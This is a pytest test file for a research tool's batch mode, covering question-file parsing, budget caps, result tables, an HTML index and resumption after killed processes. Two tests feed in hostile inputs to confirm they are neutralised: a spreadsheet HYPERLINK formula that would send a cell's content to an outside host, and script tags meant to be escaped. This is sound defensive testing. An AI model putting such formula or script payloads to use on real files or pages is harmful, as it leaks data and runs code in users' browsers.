"""A batch: its file, its budget, its table; and whatever is killed, each question ends once and no call is repeated."""

from __future__ import annotations

import asyncio
import csv
import json
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fathom.batch.folder import BatchFolder, question_ids, render_index
from fathom.batch.questions import format_of, lines_of, read_questions, settings_of
from fathom.budget.ledger import Cost, SharedBudget, caps
from fathom.config.given import read_settings
from fathom.config.groups import Judging, Profile
from fathom.config.settings import ResearchSettings
from fathom.errors import BudgetExceeded, InvalidInput
from fathom.flows.deep_research import deep_research
from fathom.flows.execution.deploying import deploy
from fathom.models.run import BatchQuestion, BatchRow, RowStatus
from fathom.storage.store import ArtifactStore
from tests.conftest import FathomCLI, Forked, PrefectServer, base_env
from tests.forking import Fork
from tests.processes import Kills, finish
from tests.stubs import Stubs

BASE = ResearchSettings(profile=Profile.quick)

# -- the file -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("q.txt", "# a comment\n\nWhat are tides?\n  Why is the sea salt?  \n"),
        ("q.csv", "question,depth\nWhat are tides?,\n\nWhy is the sea salt?,\n"),
        ("q.csv", '\ufeffquery\r\nWhat are tides?\r\n"Why is the sea salt?"\r\n'),
        ("q.jsonl", '{"question": "What are tides?"}\n\n"Why is the sea salt?"\n'),
    ],
)
def test_every_form_of_file_gives_its_questions(name: str, text: str) -> None:
    found = read_questions(text, format_of(name), BASE)
    assert [question.question for question in found] == ["What are tides?", "Why is the sea salt?"]


def test_a_row_has_settings_of_its_own() -> None:
    text = "question,profile,max_usd,docs,report.words,run_key\nWhat are tides?,deep,0.5,a.md;b.md,300,mine\n"
    (question,) = read_questions(text, "csv", BASE)
    merged = settings_of(question, ResearchSettings(breadth=2, report={"judge": "always"}))
    assert (merged.profile, merged.breadth, merged.budget.max_usd) == (Profile.deep, 2, 0.5)
    assert (merged.docs, merged.report.words, merged.report.judge) == (["a.md", "b.md"], 300, Judging.always)
    assert question.run_key == "mine"
    assert read_settings(["max-usd=0.5", "depth=2"]) == {"budget": {"max_usd": 0.5}, "depth": 2}


@pytest.mark.parametrize(
    ("kind", "text", "said"),
    [
        ("txt", "\n# only a comment\n", "The file contains no question"),
        (
            "csv",
            "\ufeff \r\n",
            r"The file is empty. \(name the columns in the first line, such as question,profile; each",
        ),
        ("csv", "question\n", r"The file contains no question. \(name the columns in the first line"),
        ("jsonl", "", r'The file is empty. \(write one object per line, such as {"question": "What'),
        ("csv", "topic\nTides\n", "does not name a column `question`"),
        ("csv", "question,depth\nWhat are tides?,2\nWhy?,two\n", "Line 3: depth 'two'"),
        ("csv", "question,depth\nWhy?,9\nHow?,1\nWhy?,two\n", "Line 2: depth '9'.*Line 4: depth 'two'"),
        (
            "csv",
            "question,dept\nWhat are tides?,2\n",
            "Column 'dept': there is no such setting; did you mean depth[?] ",
        ),
        ("csv", "question,owner\nWhy?,Ida\nHow?,Bo\n", "Column 'owner': .*setting.* name it `label.owner` to keep it"),
        ("csv", "question\nWhat are tides, really?\n", "Line 2 has 2 cells"),
        ("jsonl", '{"question": "a"}\n{"question": \n', "Line 2 is not JSON"),
        ("jsonl", '{"profile": "quick"}\n', "Line 1: There is no question"),
        ("jsonl", '{"question": "\\ud800"}\n', "Line 1 is not JSON"),
        ("jsonl", '{"question": "Why?", "max_usd": NaN}\n', "Line 1 is not JSON"),
        ("jsonl", '{"question": "Why?", "max_usd": 1e999}\n', "Line 1: .*max_usd.*must be a finite number"),
        ("csv", 'question,sources\nWhy?,"{""min_quality"": -1e999}"\n', "Line 2: .*must be a finite number"),
        ("csv", "question\nWhy?\n??\n", "Line 3: The question has no word"),
        ("txt", "x" * 10_001, "Line 1: The query has 10,001 characters"),
    ],
)
def test_what_cannot_be_used_is_named_with_its_line(kind: Any, text: str, said: str) -> None:
    with pytest.raises(InvalidInput, match=said):
        read_questions(text, kind, BASE)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_table_is_divided_as_the_spreadsheet_of_any_country_does(delimiter: str) -> None:
    rows = [["Question", "profile"], ["Which is it: this, that; or both?", "quick"]]
    text = "".join(delimiter.join(f'"{cell}"' for cell in row) + "\r\n" for row in rows)
    (question,) = read_questions(text, "csv", BASE)
    assert (question.question, question.settings) == ("Which is it: this, that; or both?", {"profile": "quick"})


@given(text=st.text(max_size=300), kind=st.sampled_from(["txt", "csv", "jsonl"]))
def test_any_text_is_read_or_refused_and_what_is_read_can_be_written(text: str, kind: Any) -> None:
    try:
        found = read_questions(text, kind, BASE)
    except InvalidInput:
        return
    assert read_questions(lines_of(found), "jsonl", BASE) == found
    assert len(set(question_ids(found))) == len(found)


# -- the budget ---------------------------------------------------------------------------------------------------


@given(
    cap=st.integers(1, 1_000),
    at_once=st.integers(1, 8),
    wanted=st.lists(st.tuples(st.integers(1, 500), st.integers(0, 100)), max_size=30),
)
def test_questions_together_never_pass_the_cap(cap: int, at_once: int, wanted: list[tuple[int, int]]) -> None:
    budget = SharedBudget(caps(cap / 100, None, None), at_once)
    running: list[tuple[Cost, int]] = []
    spent = Decimal(0)
    for own, percent in wanted:
        while True:
            try:
                granted = budget.reserve(caps(own / 100, None, None))
            except BudgetExceeded:
                assert not running, "a question is turned away only when none could give anything back"
                return
            if granted is not None and len(running) < at_once:
                break
            if granted is not None:
                budget.settle(granted, Cost())
            reserved, share = running.pop(0)
            used = Cost(reserved.usd * share / 100, 0, 0)
            spent += used.usd
            budget.settle(reserved, used)
        running.append((granted, percent))
        assert granted.usd <= Decimal(own) / 100
        assert spent + sum((reserved.usd for reserved, _ in running), Decimal(0)) <= Decimal(str(cap / 100))


# -- the table ----------------------------------------------------------------------------------------------------


async def test_the_table_has_no_cell_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
    said = '=HYPERLINK("https://example.org?"&A1)'
    rows = [BatchRow(number=-1, question=said, answer=said, reason=said)]
    await BatchFolder(ArtifactStore(str(tmp_path)), "one").save_results("Batch", rows)
    (file,) = tmp_path.rglob("results.csv")
    (row,) = csv.DictReader(file.read_text(encoding="utf-8-sig").splitlines())
    assert {row[name] for name in ("question", "answer", "reason")} == {f"'{said}"}


async def test_an_id_and_labels_stand_beside_the_results(tmp_path: Path) -> None:
    def asked(owner: str) -> list[BatchQuestion]:
        return read_questions(f"ID,question,label.Owner\n007,What are tides?,{owner}\n,Why?,\n", "csv", BASE)

    folder = BatchFolder(ArtifactStore(str(tmp_path)), "one")
    for row_id, record in (await folder.records(asked("Ida"))).items():
        await folder.save(row_id, record)
    records = await folder.records(asked("Bo"))  # a label is no part of the question: its row is found again
    await folder.save_results("Batch", [record.row for record in records.values()])
    table, lines = (next(tmp_path.rglob(f"results.{kind}")).read_text("utf-8-sig") for kind in ("csv", "jsonl"))
    assert [(row["id"], row["label.Owner"]) for row in csv.DictReader(table.splitlines())] == [("007", "Bo"), ("", "")]
    assert json.loads(lines.splitlines()[0])["labels"] == {"id": "007", "label.Owner": "Bo"}
    assert read_questions(lines_of(asked("Bo")), "jsonl", BASE) == asked("Bo")


def test_the_index_links_reports_and_escapes_what_people_and_pages_wrote() -> None:
    rows = [
        BatchRow(
            number=1,
            question="<script>alert(1)</script>",
            status=RowStatus.complete,
            report="s3://bucket/store/research_artifacts/tides/report.md",
        ),
        BatchRow(number=2, question="Why?", status=RowStatus.failed, reason="<b>no key</b>"),
        BatchRow(
            number=3,
            question="When?",
            status=RowStatus.complete,
            answer="- At *noon*. [1]\n- <script>At six.</script> [2]\n\n| tide | at |\n|---|---|\n| low | 6 |",
        ),
    ]
    page = render_index("Batch", rows)
    assert "<script>" not in page
    assert "&lt;b&gt;no key" in page
    assert "<li>At <em>noon</em>. [1]</li>" in page and "<td>low</td>" in page
    assert 'href="../../research_artifacts/tides/report.html"' in page
    assert page == render_index("Batch", rows)


# -- whole batches ------------------------------------------------------------------------------------------------


@pytest.fixture
def env(stubs: Stubs, prefect_server: PrefectServer, home: Path, tmp_path: Path) -> dict[str, str]:
    """A process's environment: the session's server, the stubs, an empty home and a store."""
    stubs.settings.llm_delay = stubs.settings.search_delay = 0.1
    stubs.settings.steps, stubs.settings.breadth = 2, 1
    artifacts = {"FATHOM_ARTIFACTS": str(tmp_path / "store")}
    return {**base_env(), "HOME": str(home), **prefect_server.env, **stubs.env, **artifacts}


@pytest.mark.usefixtures("prefect_server")
def test_without_a_worker_the_command_does_the_work_and_says_what_failed(
    env: dict[str, str], fathom_cli: FathomCLI, tmp_path: Path
) -> None:
    file = tmp_path / "questions.jsonl"
    asked = [
        {"question": "What is a descriptor in Python?"},
        {"question": "What is the airspeed of an unladen swallow?"},
        {"question": "What is a metaclass?", "tools": ["web_search"], "model": "openai/stub", "max_usd": 1},
    ]
    file.write_text("".join(f"{json.dumps(row)}\n" for row in asked))
    refused = fathom_cli(["batch", str(file), "--profile", "quick"], env)
    assert refused.returncode == 2
    assert "The price of 'openai/stub' is unknown" in refused.stderr
    file.write_text("".join(f"{json.dumps(row)}\n" for row in asked[:2]))
    done = fathom_cli(["batch", str(file), "--profile", "quick", "--set", "tools=documents"], env)
    assert done.returncode == 0, done.stderr
    assert "No worker serves the pool" in done.stderr
    assert "1 complete, 1 insufficient evidence (of 2)" in done.stdout
    assert len([*tmp_path.glob("store/.results/*/done-*")]) == 2, "what counts as having come further after a kill"


def test_a_question_that_failed_is_asked_again_as_the_command_says_now(
    env: dict[str, str], stubs: Stubs, fathom_cli: FathomCLI, tmp_path: Path
) -> None:
    stubs.settings.faults["planner"] = ["401*"]
    file = tmp_path / "questions.txt"
    file.write_text("What is known about tides?\n")
    command = ["batch", str(file), "--run-key", "again", "--profile", "quick", "--set", "fresh=true", "--quiet"]
    capped = ["--model", "openai/stub", "--max-calls", "60"]
    failed = fathom_cli([*command, *capped], env)
    assert failed.returncode == 1
    rows = [json.loads(line) for line in Path(failed.stdout.strip()).read_text().splitlines()]
    assert [row["status"] for row in rows] == ["failed"]
    assert all("ModelRejected" in row["reason"] or "answered 401" in row["reason"] for row in rows), rows
    done = fathom_cli([*command, "--model", "extractive"], env)
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in Path(done.stdout.strip()).read_text().splitlines()]
    assert [(row["status"], row["llm_calls"]) for row in rows] == [("complete", 0)]
    with Path(done.stdout.strip()).with_suffix(".csv").open(encoding="utf-8-sig", newline="") as file_of_rows:
        table = [*csv.DictReader(file_of_rows)]
    assert [row["answer"] for row in table] == [row["answer"] for row in rows]
    assert all("[1]" in row["answer"] and row["answer_sources"] for row in table)


def test_killed_anywhere_each_question_ends_once_and_no_call_is_repeated(
    env: dict[str, str], forked: Forked, stubs: Stubs, tmp_path: Path
) -> None:
    """The batch and its worker are killed together, twice; others of their kind finish the work."""
    names = ("tides", "glaciers", "volcanoes")
    file = tmp_path / "questions.txt"
    file.write_text("\n".join(f"What is known about {name} far from here?" for name in names))
    command = ["batch", str(file), "--run-key", "night", "--model", "openai/stub", "--profile", "quick"]
    command += ["--set", "fresh=true", "--at-once", "2", "--json"]
    # A pool of its own: a worker takes up all that others have left in one, such as other tests' runs.
    asyncio.run(deploy("night", deep_research, pool="night"))
    command += ["--deployment", "deep-research/night"]
    worker = ["worker", "--pool", "night", "--limit", "2"]
    kills = Kills(stubs)
    for answered in (10, 18):  # of 27
        processes = forked(env, *worker), forked(env, *command)

        def kill(processes: Sequence[Fork] = processes) -> None:
            for process in processes:
                process.kill()
                process.wait()

        kills.after(answered, kill)
    successor = forked(env, *worker)
    result = finish(forked(env, *command))
    successor.terminate()
    _, said = successor.communicate(timeout=60)
    assert result["ended"] == {"complete": len(names)}
    assert successor.returncode == 0, said
    assert kills.repeated() == []
    lines = [json.loads(line) for line in Path(result["results"]).read_text().splitlines()]
    assert [row["number"] for row in lines] == [1, 2, 3]
    assert all(Path(row["report"]).is_file() for row in lines)
    asked = len(stubs.requests)
    again = finish(forked(env, *command))
    assert again["ended"] == result["ended"]
    assert len(stubs.requests) == asked, "a finished question is not asked again"
